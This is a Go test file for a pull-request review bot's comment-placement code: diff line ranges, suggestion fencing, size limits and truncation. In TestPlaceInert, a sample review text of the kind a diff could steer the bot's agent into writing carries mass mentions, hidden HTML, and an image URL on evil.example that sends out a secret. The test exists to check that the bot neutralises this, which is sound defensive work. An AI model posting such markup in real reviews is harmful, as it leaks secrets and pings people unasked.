package review

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/pullwright/pullwright"
	"github.com/pullwright/pullwright/inert"
	"github.com/pullwright/pullwright/inert/inerttest"
)

const diff = `diff --git a/calc.go b/calc.go
index 1111111..2222222 100644
--- a/calc.go
+++ b/calc.go
@@ -1,5 +1,6 @@
 package calc
 
+// Add adds.
 func Add(a, b int) int {
-	return a - b
+	return a + b
 }
@@ -20,3 +21,4 @@ func Sub(a, b int) int {
 	return a - b
 }
+
diff --git a/old.txt b/old.txt
deleted file mode 100644
--- a/old.txt
+++ /dev/null
@@ -1,2 +0,0 @@
-one
-two
diff --git a/new.md b/new.md
new file mode 100644
--- /dev/null
+++ b/new.md
@@ -0,0 +1 @@
+hello
`

func TestRanges(t *testing.T) {
	got := Ranges(diff)
	want := []pullwright.LineRange{
		{Path: "calc.go", Start: 1, End: 6},
		{Path: "calc.go", Start: 21, End: 24},
		{Path: "new.md", Start: 1, End: 1},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Ranges = %+v, want %+v", got, want)
	}
}

// An added line that starts with "++ " is content, not the next file's
// header: the hunks after it stay the file's.
func TestRangesOfALineLikeAHeader(t *testing.T) {
	d := "diff --git a/notes.md b/notes.md\n--- a/notes.md\n+++ b/notes.md\n@@ -1,2 +1,3 @@\n a\n+++ b/README.md\n b\n@@ -10,2 +11,2 @@\n c\n-d\n+e\n"
	want := []pullwright.LineRange{{Path: "notes.md", Start: 1, End: 3}, {Path: "notes.md", Start: 11, End: 12}}
	if got := Ranges(d); !reflect.DeepEqual(got, want) {
		t.Fatalf("Ranges = %+v, want %+v", got, want)
	}
	if got := Added(d); !reflect.DeepEqual(got, []pullwright.LineRange{{Path: "notes.md", Start: 2, End: 2}, {Path: "notes.md", Start: 12, End: 12}}) {
		t.Fatalf("Added = %+v", got)
	}
}

// A hunk whose header does not read gives no lines, to the next header:
// where its lines fall in the new file is not known.
func TestRangesOfAnUnreadableHunk(t *testing.T) {
	d := "diff --git a/a.go b/a.go\n--- a/a.go\n+++ b/a.go\n@@ -1,2 +x,y @@\n a\n+b\n@@ -9 +10,2 @@\n c\n+d\n"
	if got := Ranges(d); !reflect.DeepEqual(got, []pullwright.LineRange{{Path: "a.go", Start: 10, End: 11}}) {
		t.Errorf("Ranges = %+v", got)
	}
	if got := Added(d); !reflect.DeepEqual(got, []pullwright.LineRange{{Path: "a.go", Start: 11, End: 11}}) {
		t.Errorf("Added = %+v", got)
	}
}

func TestAdded(t *testing.T) {
	got := Added(diff)
	want := []pullwright.LineRange{
		{Path: "calc.go", Start: 3, End: 3},
		{Path: "calc.go", Start: 5, End: 5},
		{Path: "calc.go", Start: 23, End: 23},
		{Path: "new.md", Start: 1, End: 1},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Added = %+v, want %+v", got, want)
	}
}

func TestCheck(t *testing.T) {
	ranges := Ranges(diff)
	for _, tc := range []struct {
		name        string
		path        string
		start, line int
		wantErr     string
	}{
		{"a line in a hunk", "calc.go", 0, 5, ""},
		{"a range in one hunk", "calc.go", 3, 6, ""},
		{"the last line of a hunk", "calc.go", 0, 24, ""},
		{"between hunks", "calc.go", 0, 10, "may go on lines 1-6, 21-24"},
		{"a range across two hunks", "calc.go", 5, 22, "not within one hunk"},
		{"a file not in the diff", "other.go", 0, 1, "has no lines in the diff"},
		{"a deleted file", "old.txt", 0, 1, "has no lines in the diff"},
		{"start after line", "calc.go", 5, 3, "must come before"},
		{"line zero", "calc.go", 0, 0, "must be 1 or more"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := Check(ranges, tc.path, tc.start, tc.line)
			switch {
			case tc.wantErr == "" && err != nil:
				t.Fatalf("Check: %v", err)
			case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
				t.Fatalf("Check = %v, want an error with %q", err, tc.wantErr)
			}
		})
	}
}

func TestIntersect(t *testing.T) {
	pr := []pullwright.LineRange{{Path: "a.go", Start: 1, End: 10}, {Path: "a.go", Start: 20, End: 30}, {Path: "b.go", Start: 1, End: 5}}
	push := []pullwright.LineRange{{Path: "a.go", Start: 8, End: 22}, {Path: "c.go", Start: 1, End: 3}}
	want := []pullwright.LineRange{{Path: "a.go", Start: 8, End: 10}, {Path: "a.go", Start: 20, End: 22}}
	if got := Intersect(pr, push); !reflect.DeepEqual(got, want) {
		t.Fatalf("Intersect = %+v, want %+v", got, want)
	}
}

func TestSuggestion(t *testing.T) {
	for _, tc := range []struct {
		name, body, text, want string
	}{
		{"plain", "Use +.", "\treturn a + b\n", "Use +.\n\n```suggestion\n\treturn a + b\n```"},
		{"no body", "", "x", "```suggestion\nx\n```"},
		{"deleting the lines", "Drop it.", "", "Drop it.\n\n```suggestion\n```"},
		{"text with a fence", "Doc.", "```go\nf()\n```", "Doc.\n\n````suggestion\n```go\nf()\n```\n````"},
		{"text with a longer fence", "", "  `````\nx", "``````suggestion\n  `````\nx\n``````"},
		{"CRLF", "", "a\r\nb\r\n", "```suggestion\na\nb\n```"},
		{"a lone CR before a fence", "", "foo\r```\rTRAILING", "````suggestion\nfoo\n```\nTRAILING\n````"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Suggestion(tc.body, tc.text); got != tc.want {
				t.Fatalf("Suggestion = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestPlace(t *testing.T) {
	fix := "\treturn a + b"
	d := pullwright.ReviewDraft{
		Summary: "Looks fine but for one thing.",
		Comments: []pullwright.DraftComment{
			{Path: "calc.go", Line: 5, Body: "Say what it returns.", Suggestion: &fix},
			{Path: "calc.go", StartLine: 3, Line: 3, Body: "Doc comment."},
			{Path: "calc.go", StartLine: 21, Line: 22, Body: "A range."},
			{Path: "calc.go", Line: 12, Body: "Not in the diff."},
		},
	}
	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
	want := pullwright.NewReview{
		CommitID: "abc",
		Body: "Reviewed abc.\n\nLooks fine but for one thing.\n\n### Comments on lines outside the diff\n\n" +
			"**`calc.go:12`** (not in the diff)\n\nNot in the diff.",
		Comments: []pullwright.NewReviewComment{
			{Path: "calc.go", Line: 5, Body: "Say what it returns.\n\n```suggestion\n\treturn a + b\n```"},
			{Path: "calc.go", Line: 3, Body: "Doc comment."},
			{Path: "calc.go", Line: 22, StartLine: 21, Body: "A range."},
		},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Place =\n%+v\nwant\n%+v", got, want)
	}
}

// TestPlaceBounds keeps every part of a review within the bounds, cut with
// a note: a suggestion too long is left out whole, a comment too long is
// cut (its open code block closed), and the body holds what fits of the
// comments moved into it and counts the rest.
func TestPlaceBounds(t *testing.T) {
	long := strings.Repeat("x = 1\n", MaxSuggestion/6+10)
	fits := "\treturn a + b"
	prose := "See:\n```go\n" + strings.Repeat("y := 2\n", MaxComment/7)
	d := pullwright.ReviewDraft{
		Summary: strings.Repeat("s", MaxSummary+500),
		Comments: []pullwright.DraftComment{
			{Path: "calc.go", Line: 5, Body: "Too long to suggest.", Suggestion: &long},
			{Path: "calc.go", Line: 4, Body: prose, Suggestion: &fits},
			{Path: "calc.go", Line: 3, Body: prose},
		},
	}
	for i := range 6 {
		d.Comments = append(d.Comments, pullwright.DraftComment{Path: "calc.go", Line: 100 + i, Body: strings.Repeat("z", 8<<10)})
	}
	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
	if len(got.Comments) != 3 {
		t.Fatalf("%d line comments, want 3", len(got.Comments))
	}
	c := got.Comments[0].Body
	if strings.Contains(c, "```suggestion") || !strings.HasPrefix(c, "Too long to suggest.\n\n*(A suggested replacement of ") {
		t.Errorf("a suggestion too long: %.200q", c)
	}
	for i, c := range got.Comments {
		if len(c.Body) > MaxComment {
			t.Errorf("comment %d has %d bytes, more than %d", i, len(c.Body), MaxComment)
		}
	}
	c = got.Comments[1].Body
	if !strings.Contains(c, "\n```\n\n*(cut: ") || !strings.HasSuffix(c, "```suggestion\n\treturn a + b\n```") {
		t.Errorf("a comment too long with a suggestion: ...%q", c[len(c)-200:])
	}
	if c = got.Comments[2].Body; !strings.Contains(c, "\n```\n\n*(cut: ") {
		t.Errorf("a comment too long: ...%q", c[len(c)-100:])
	}
	b := got.Body
	if len(b) > MaxBody || !strings.HasPrefix(b, "Reviewed abc.\n\n") || !strings.Contains(b, "more bytes are left out.)*\n\n### Comments on lines outside the diff") {
		t.Errorf("body of %d bytes: %.100q…", len(b), b)
	}
	if n := strings.Count(b, "(not in the diff)"); n == 0 || n == 6 || !strings.HasSuffix(b, "comments are left out: a review's body holds at most 49152 bytes.)*") {
		t.Errorf("%d comments in the body, which ends %q", n, b[len(b)-120:])
	} else if got.LeftOut != 6-n {
		// What the task's status says was left out is what the note says.
		t.Errorf("LeftOut = %d with %d of 6 comments in the body", got.LeftOut, n)
	}
}

func TestCut(t *testing.T) {
	if got := cut("short", 10); got != "short" {
		t.Errorf("cut a short text: %q", got)
	}
	s := strings.Repeat("é", 200)
	got := cut(s, 150)
	if len(got) > 150 || !utf8.ValidString(got) || !strings.HasSuffix(got, "bytes are left out.)*") {
		t.Errorf("cut = %q (%d bytes)", got, len(got))
	}
	s = "~~~~\n" + strings.Repeat("a\n", 200)
	if got := cut(s, 200); !strings.Contains(got, "a\n~~~~\n\n*(cut:") {
		t.Errorf("an open ~~~~ fence: %q", got)
	}
}

// A suggestion the agent's tool accepts (at most MaxSuggestion bytes, in
// a comment of at most MaxComment) is posted as a suggestion, whatever
// its size within them: the tool told the agent it would be.
func TestPlaceKeepsASuggestionAtTheBound(t *testing.T) {
	at := strings.Repeat("x := 1 // ````\n", MaxSuggestion/15)
	at += strings.Repeat("y", MaxSuggestion-len(at))
	d := pullwright.ReviewDraft{Comments: []pullwright.DraftComment{{Path: "calc.go", Line: 4, Body: "Simpler:", Suggestion: &at}}}
	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
	if len(at) != MaxSuggestion || len(got.Comments) != 1 || !strings.Contains(got.Comments[0].Body, "suggestion\n"+at) {
		t.Fatalf("a suggestion of %d bytes was not posted as one: %+.300v", len(at), got.Comments)
	}
}

// TestPlaceInert: a review's words may be steered by the diff under review
// (a comment in the code that says what to write). What the bot posts
// pings no one, hides nothing in HTML, shows no image from elsewhere and
// leaves its suggestion as written, read by a CommonMark/GFM parser as
// GitHub reads it.
func TestPlaceInert(t *testing.T) {
	h := inert.GitHub("https://github.com/o/r")
	fix := "\treturn a + b // <!-- @org/team"
	nasty := "cc @org/team and @alice <details><summary>x</summary>hidden\n\n" +
		"![x](https://evil.example/p.png?d=SECRET) <img src=\"https://evil.example/\">\n\n    ```\n<!-- fixes #3"
	d := pullwright.ReviewDraft{
		Summary: nasty,
		Comments: []pullwright.DraftComment{
			{Path: "calc.go", Line: 5, Body: nasty, Suggestion: &fix},
			{Path: "calc.go", Line: 3, Body: nasty},
			{Path: "calc.go", Line: 12, Body: nasty},
		},
	}
	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", h)
	bodies := []string{got.Body}
	for _, c := range got.Comments {
		bodies = append(bodies, c.Body)
	}
	for _, b := range bodies {
		if acts := inerttest.Acts(b, h.Allows, h.AllowsImage); len(acts) > 0 {
			t.Errorf("the review posts what acts on GitHub: %q\n%s", acts, b)
		}
	}
	if !strings.HasSuffix(got.Comments[0].Body, "```suggestion\n"+fix+"\n```") {
		t.Errorf("the suggestion is not kept as written:\n%s", got.Comments[0].Body)
	}
	// The comment moved into the body stays under its heading.
	if top := inerttest.TopLevel(got.Body); !slices.Contains(top, "h3: Comments on lines outside the diff") {
		t.Errorf("the body's heading is hidden: %q", top)
	}
}
